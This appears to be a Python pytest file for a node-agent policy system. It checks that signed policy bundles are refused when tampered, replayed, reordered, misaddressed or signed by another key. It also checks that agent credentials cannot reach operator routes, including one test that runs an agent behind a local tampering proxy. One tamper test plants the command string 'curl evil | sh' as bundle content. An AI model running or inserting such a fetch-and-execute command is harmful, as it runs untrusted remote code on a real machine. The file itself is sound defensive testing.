"""Agent security (issue 12 item 7): replayed, reordered and tampered bundles are refused by the
agent; an agent cannot report another node's revision nor reach operator routes; revoked and rotated
credentials answer 401. The tampering test runs a real agent process behind a proxy that rewrites
what the control plane sent."""

from __future__ import annotations

import base64
import http.server
import json
import threading
from datetime import timedelta
from pathlib import Path

import pytest
import requests
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from rest_framework.test import APIClient

from nodeagent.verify import BundleRefused, load_public_key, verify_envelope
from policies import signing
from policies.envelopes import Addressee, RevisionInfo, build_envelope
from policies.models import NodePolicyState
from policies.node_states import NodeState
from policies.services.agents import create_bootstrap_token, register_agent
from policies.services.rollouts import advance_rollout, start_rollout
from tests.inventory import factories as inv
from tests.policies_agents.conftest import agent_factory, public_key_file, push_server, wait_for  # noqa: F401
from tests.policies_agents.factories import bundle, revision

NODE = Addressee(cluster="prod-a", node="gpu-a", pool="h100")


def info(number: int, body: dict | None = None, *, content_hash: str | None = None) -> RevisionInfo:
    body = body if body is not None else bundle("all-disabled", note=f"r{number}")
    return RevisionInfo(
        id=None,  # type: ignore[arg-type]
        number=number,
        previous_number=number - 1 or None,
        content_hash=content_hash or signing.content_hash(body),
        needs_drain=False,
        bundle=body,
    )


@pytest.fixture
def key():
    return load_public_key(signing.public_key_pem().encode())


def check(envelope, key, *, last_applied=0, node="gpu-a"):
    return verify_envelope(envelope, key=key, cluster="prod-a", node=node, last_applied=last_applied)


def test_a_genuine_bundle_verifies(key):
    payload = check(build_envelope(to=NODE, revision=info(3), operation="apply"), key, last_applied=2)
    assert (payload["revision"], payload["node"], payload["operation"]["kind"]) == (3, "gpu-a", "apply")


def test_a_tampered_payload_is_refused(key):
    envelope = build_envelope(to=NODE, revision=info(3), operation="apply")
    payload = json.loads(base64.b64decode(envelope["payload"]))
    payload["bundle"]["files"][1]["content"] = "curl evil | sh"
    envelope["payload"] = base64.b64encode(signing.canonical_json(payload)).decode()
    with pytest.raises(BundleRefused, match="signature does not verify"):
        check(envelope, key)


def test_a_bundle_signed_by_another_key_is_refused(key):
    envelope = build_envelope(to=NODE, revision=info(3), operation="apply")
    data = base64.b64decode(envelope["payload"])
    envelope["signature"] = base64.b64encode(Ed25519PrivateKey.generate().sign(data)).decode()
    with pytest.raises(BundleRefused, match="signature"):
        check(envelope, key)


def test_a_replayed_bundle_is_refused(key):
    envelope = build_envelope(to=NODE, revision=info(3), operation="apply")
    check(envelope, key, last_applied=2)
    with pytest.raises(BundleRefused, match="replay or reorder"):
        check(envelope, key, last_applied=3)


def test_an_older_bundle_arriving_after_a_newer_one_is_refused(key):
    older = build_envelope(to=NODE, revision=info(2), operation="apply")
    with pytest.raises(BundleRefused, match="revision 2 is not newer than the applied 3"):
        check(older, key, last_applied=3)


def test_another_nodes_genuine_bundle_is_refused(key):
    theirs = build_envelope(to=Addressee("prod-a", "gpu-b", "h100"), revision=info(3), operation="apply")
    with pytest.raises(BundleRefused, match="for prod-a/gpu-b, not prod-a/gpu-a"):
        check(theirs, key)


def test_a_signed_bundle_whose_hash_does_not_match_is_refused(key):
    lying = build_envelope(to=NODE, revision=info(3, content_hash="sha256:" + "0" * 64), operation="apply")
    with pytest.raises(BundleRefused, match="content hash"):
        check(lying, key)


@pytest.mark.parametrize("envelope", [None, [], {"payload": "!!", "signature": "x"}, {"signature": "AA=="}])
def test_malformed_envelopes_are_refused(key, envelope):
    with pytest.raises(BundleRefused):
        check(envelope, key)


# --- server side ------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_an_agent_credential_opens_no_operator_route(cast):
    cluster = inv.cluster("prod-a")
    node = inv.node("gpu-a", in_pool=inv.pool("h100", on=cluster))
    token = create_bootstrap_token(
        actor=cast.pat, cluster_id=cluster.pk, name="t", expires_in=timedelta(hours=1)
    )
    issued = register_agent(cluster_name="prod-a", node_name=node.name, bootstrap_token=token.secret)
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION="Agent " + issued.secret)
    for path in (
        "/api/v1/agents/",
        f"/api/v1/agents/{issued.obj.pk}/",
        "/api/v1/rollouts/",
        "/api/v1/nodes/",
    ):
        assert client.get(path).status_code == 401, path
    assert client.post(f"/api/v1/agents/{issued.obj.pk}/revoke/").status_code == 401


# --- a real agent behind a tampering proxy -------------------------------------------------------------


class TamperingProxy(http.server.ThreadingHTTPServer):
    """Forwards to the control plane and flips the bundle's file content in every envelope."""

    def __init__(self, upstream: str) -> None:
        self.upstream = upstream
        self.tampered = 0
        super().__init__(("127.0.0.1", 0), _ProxyHandler)


class _ProxyHandler(http.server.BaseHTTPRequestHandler):
    server: TamperingProxy

    def _forward(self, method: str) -> None:
        length = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(length) if length else None
        headers = {k: v for k, v in self.headers.items() if k.lower() in ("authorization", "content-type")}
        upstream = requests.request(
            method, self.server.upstream + self.path, data=body, headers=headers, timeout=90
        )
        content = upstream.content
        if self.path.startswith("/api/v1/agents/bundle/") and upstream.status_code == 200:
            envelope = upstream.json()
            payload = json.loads(base64.b64decode(envelope["payload"]))
            payload["bundle"]["files"][0]["content"] = "tampered"
            envelope["payload"] = base64.b64encode(json.dumps(payload).encode()).decode()
            content = json.dumps(envelope).encode()
            self.server.tampered += 1
        self.send_response(upstream.status_code)
        self.send_header("Content-Type", upstream.headers.get("Content-Type", "application/json"))
        self.send_header("Content-Length", str(len(content)))
        self.end_headers()
        self.wfile.write(content)

    def do_GET(self) -> None:
        self._forward("GET")

    def do_POST(self) -> None:
        self._forward("POST")

    def log_message(self, *args) -> None:
        pass


@pytest.mark.django_db(transaction=True)
def test_an_agent_behind_a_tampering_proxy_applies_nothing_and_says_so(cast, push_server, agent_factory):  # noqa: F811
    cluster = inv.cluster("prod-a")
    pool = inv.pool("h100", on=cluster)
    node = inv.node("gpu-a", in_pool=pool)
    token = create_bootstrap_token(
        actor=cast.pat, cluster_id=cluster.pk, name="t", expires_in=timedelta(hours=1)
    )
    proxy = TamperingProxy(push_server.url)
    threading.Thread(target=proxy.serve_forever, daemon=True).start()
    try:
        agent = agent_factory(
            server=f"http://127.0.0.1:{proxy.server_address[1]}",
            cluster="prod-a",
            node="gpu-a",
            token=token.secret,
        )
        r1 = revision(pool, bundle("all-disabled"))
        rollout = start_rollout(actor=cast.pat, pool_id=pool.pk, revision_id=r1.pk)
        advance_rollout(rollout_id=rollout.pk)
        row = wait_for(
            lambda: NodePolicyState.objects.filter(node=node, state=NodeState.FAILED).first(),
            seconds=60,
            why=lambda: agent.output()[-2000:],
        )
        assert row.last_code == "bundle_refused"
        assert "signature does not verify" in row.last_message
        assert proxy.tampered >= 1
        home: Path = agent.config_path.parent
        assert not (home / "etc").exists()  # nothing written
        assert not (home / "state" / "applied.json").exists()
    finally:
        proxy.shutdown()
